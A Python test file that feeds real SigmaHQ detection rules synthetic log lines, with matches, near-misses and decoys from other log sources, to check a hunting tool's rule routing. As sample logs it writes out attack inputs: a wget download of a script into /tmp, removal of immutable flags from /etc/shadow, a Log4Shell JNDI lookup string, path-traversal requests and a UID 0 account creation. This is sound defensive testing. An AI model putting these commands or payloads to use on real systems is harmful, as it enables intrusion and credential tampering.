#!/usr/bin/env python3
"""test_sigma_real.py — real SigmaHQ rules (../shared/sigma-rules) through `vigil hunt`
against log lines written to trigger them, near-misses that must not, and the same words
in another logsource's events, which routing must keep away from the rule.
"""
import json
import sys

from harness import hunt_cases, status



def web(path, ua="Mozilla/5.0 (X11; Linux x86_64)"):
    return ('198.51.100.20 - - [05/Sep/2024:02:00:00 +0000] "GET %s HTTP/1.1" 200 10 "-" "%s"'
            % (path, ua))


def ssh(msg):
    return "Sep  5 02:00:00 bastion sshd[4242]: " + msg


def shadow(prog, msg):
    return "Sep  5 02:00:00 srv1 %s[4243]: %s" % (prog, msg)


def netfilter(prefix, dpt, prog="kernel"):
    return ("Sep  5 02:00:00 fw1 %s: [12345.678901] %s IN=eth0 OUT= SRC=198.51.100.7 "
            "DST=10.0.0.2 LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=1 DF PROTO=TCP SPT=40000 "
            "DPT=%d WINDOW=64240 RES=0x00 SYN URGP=0" % (prog, prefix, dpt))


def winlogbeat(channel, event_id, data):
    return json.dumps({"@timestamp": "2024-11-25T10:00:00.123Z",
                       "agent": {"type": "winlogbeat"},
                       "winlog": {"channel": channel, "event_id": str(event_id),
                                  "provider_name": "Microsoft-Windows-Sysmon",
                                  "computer_name": "ws01.corp.local", "event_data": data}})


def evtx_json(channel, event_id, data):
    return json.dumps({"Event": {"System": {"Channel": channel, "EventID": event_id,
                                            "Computer": "ws02", "Provider": {"#attributes": {
                                                "Name": "Microsoft-Windows-Security-Auditing"}}},
                                 "EventData": data}})


def audit(type_, serial, body):
    return "type=%s msg=audit(1732528900.%03d:%d): %s" % (type_, serial % 1000, serial, body)


def kernel_audit(number, serial, body):
    """The kernel's own print of a record when no auditd runs (type as a number)."""
    return ("Sep  5 02:00:00 srv1 kernel: [  812.500000] audit: type=%d "
            "audit(1732528900.%03d:%d): %s" % (number, serial % 1000, serial, body))


def audit_syscall(serial, exe):
    return audit("SYSCALL", serial, "arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 "
                 "a2=0 a3=0 items=2 ppid=2829 pid=%d auid=1000 uid=0 tty=pts1 ses=3 "
                 'comm="%s" exe="%s" key="exec"' % (serial, exe.rsplit("/", 1)[-1], exe))


SYSMON = "Microsoft-Windows-Sysmon/Operational"
DISMHOST = "C:\\Users\\bob\\AppData\\Local\\Temp\\6A1F\\DismHost.exe"


# (rule file, rule id, lines that must match, lines that must not[, lines before them
# all, that must not match either])
CASES = [
    # auditd: the EXECVE record is the process creation; its Image comes from the SYSCALL
    # record of the same event (joined by the stamp), its CommandLine from the arguments
    ("linux/process_creation/proc_creation_lnx_wget_download_suspicious_directory.yml",
     "cf610c15-ed71-46e1-bdf8-2bd1a99de6c4",
     [audit("EXECVE", 200, 'argc=4 a0="wget" a1="http://198.51.100.7/a.sh" a2="-O" '
            'a3="/tmp/a.sh"'),
      # the arguments hex-encoded, as auditd writes those with spaces
      audit("EXECVE", 201, 'argc=3 a0="wget" a1=2D4F202F746D702F6220632E7368 '
            'a2="http://198.51.100.7/b"')],
     [audit("EXECVE", 202, 'argc=4 a0="wget" a1="http://x/a.sh" a2="-O" a3="/tmp/a.sh"'),
      audit_syscall(203, "/usr/bin/curl"),
      audit("EXECVE", 203, 'argc=4 a0="curl" a1="http://x/a.sh" a2="-O" a3="/tmp/a.sh"'),
      web("/x?c=/usr/bin/wget%20-O%20/tmp/a.sh")],
     [audit_syscall(200, "/usr/bin/wget"), audit_syscall(201, "/usr/bin/wget")]),
    ("linux/auditd/execve/lnx_auditd_chattr_immutable_removal.yml",
     "a5b977d6-8a81-4475-91b9-49dbfcd941f7",
     [audit("EXECVE", 300, 'argc=3 a0="chattr" a1="-i" a2="/etc/passwd"'),
      audit("EXECVE", 301, 'argc=3 a0=636861747472 a1="-i" a2=2F6574632F736861646F77'),
      kernel_audit(1309, 304, 'argc=3 a0="chattr" a1="-i" a2="/etc/shadow"')],
     [audit("EXECVE", 302, 'argc=3 a0="chattr" a1="+i" a2="/etc/passwd"'),
      kernel_audit(1309, 305, 'argc=3 a0="chattr" a1="+i" a2="/etc/shadow"'),
      audit_syscall(303, "/usr/bin/chattr"),
      ssh("Invalid user chattr -i from 10.0.0.1 port 22")]),
    ("windows/process_creation/proc_creation_win_whoami_all_execution.yml",
     "c248c896-e412-4279-8c15-1c558067b6fa",
     [winlogbeat(SYSMON, 1, {"Image": "C:\\Windows\\System32\\whoami.exe",
                             "CommandLine": "whoami /all"}),
      # Security 4688 names the image NewProcessName: the route's alias reads it
      evtx_json("Security", 4688, {"NewProcessName": "C:\\Windows\\System32\\whoami.exe",
                                   "CommandLine": "whoami.exe -all"}),
      # windash: an en dash
      winlogbeat(SYSMON, 1, {"Image": "C:\\Windows\\System32\\WHOAMI.EXE",
                             "CommandLine": "whoami \u2013all"})],
     [winlogbeat(SYSMON, 1, {"Image": "C:\\Windows\\System32\\whoami.exe",
                             "CommandLine": "whoami /priv"}),
      winlogbeat(SYSMON, 3, {"Image": "C:\\Windows\\System32\\whoami.exe",
                             "CommandLine": "whoami /all"}),  # a network connection event
      winlogbeat("Application", 1, {"Image": "C:\\Windows\\System32\\whoami.exe",
                                    "CommandLine": "whoami /all"})]),
    # IntegrityLevel: Sysmon names it, Security 4688 has MandatoryLabel (the SID form)
    ("windows/process_creation/proc_creation_win_uac_bypass_dismhost.yml",
     "853e74f9-9392-4935-ad3b-2e8c040dae86",
     [winlogbeat(SYSMON, 1, {"Image": "C:\\Windows\\System32\\cmd.exe",
                             "ParentImage": DISMHOST, "IntegrityLevel": "High"}),
      evtx_json("Security", 4688, {"NewProcessName": "C:\\Windows\\System32\\cmd.exe",
                                   "ParentProcessName": DISMHOST,
                                   "MandatoryLabel": "S-1-16-12288"})],
     [winlogbeat(SYSMON, 1, {"Image": "C:\\Windows\\System32\\cmd.exe",
                             "ParentImage": DISMHOST, "IntegrityLevel": "Medium"}),
      evtx_json("Security", 4688, {"NewProcessName": "C:\\Windows\\System32\\cmd.exe",
                                   "ParentProcessName": DISMHOST,
                                   "MandatoryLabel": "S-1-16-8192"})]),
    ("linux/builtin/sshd/lnx_sshd_susp_ssh.yml", "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc",
     [ssh("Corrupted MAC on input. [preauth]"),
      ssh("error: Received disconnect: bad client public DH value")],
     [ssh("Connection closed by 203.0.113.5 port 4242 [preauth]"),
      web("/x?msg=Corrupted%20MAC%20on%20input", "Corrupted MAC on input")]),
    ("web/webserver_generic/web_path_traversal_exploitation_attempt.yml",
     "7745c2ea-24a5-4290-b680-04359cb84b35",
     [web("/download?file=../../../etc/passwd"),
      web("/cgi?f=..%252f..%252f..%252fetc%252fshadow")],
     [web("/download?file=../etc/passwd"),
      web("/../../../etc/passwd"),  # in the path, not the query the rule names
      ssh("Invalid user x from 10.0.0.1 ../../../etc/ port 22")]),
    ("web/webserver_generic/web_jndi_exploit.yml", "412d55bc-7737-4d25-9542-5b396867ce55",
     [web("/a?x=${jndi:ldap://198.51.100.9/Basic/Command/Base64/aWQ=}")],
     [web("/Basic/Command/"), ssh("Failed password for /Basic/Command/Base64/ from 10.0.0.1")]),
    ("web/webserver_generic/web_susp_useragents.yml", "19aa4f58-94ca-45ff-bc34-92e533c0994a",
     [web("/", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
     [web("/sqlmap/"), ssh("Failed password for sqlmap/ from 10.0.0.1 port 22 ssh2")]),
    # keywords over linux events: useradd's new user with a root/wheel/sudo id
    ("linux/builtin/lnx_privileged_user_creation.yml", "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e",
     [shadow("useradd", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash"),
      shadow("useradd", "new user: name=dave, UID=1005, GID=27, home=/home/dave, "
             "shell=/bin/zsh, from=/dev/pts/1")],
     [shadow("useradd", "new user: name=bob, UID=1001, GID=1001, home=/home/bob, "
             "shell=/bin/bash, from=/dev/pts/0"),
      web("/?q=new%20user", "new user GID=0, UID=0,")]),
    # category firewall: netfilter lines whose prefix says they were let through
    ("network/firewall/net_firewall_cleartext_protocols.yml",
     "d7fb8f0e-bd5f-45c2-b467-19571c490d7e",
     [netfilter("[UFW ALLOW]", 23), netfilter("OUTPUT ACCEPT", 3306)],
     [netfilter("[UFW BLOCK]", 23),  # blocked: not a cleartext session
      netfilter("[UFW ALLOW]", 22),
      netfilter("[UFW AUDIT]", 23),  # the prefix states no verdict
      netfilter("[UFW ALLOW]", 23, prog="myapp")]),  # not the kernel: not a firewall event
]


def main():
    hunt_cases(CASES)
    return status()


if __name__ == "__main__":
    sys.exit(main())
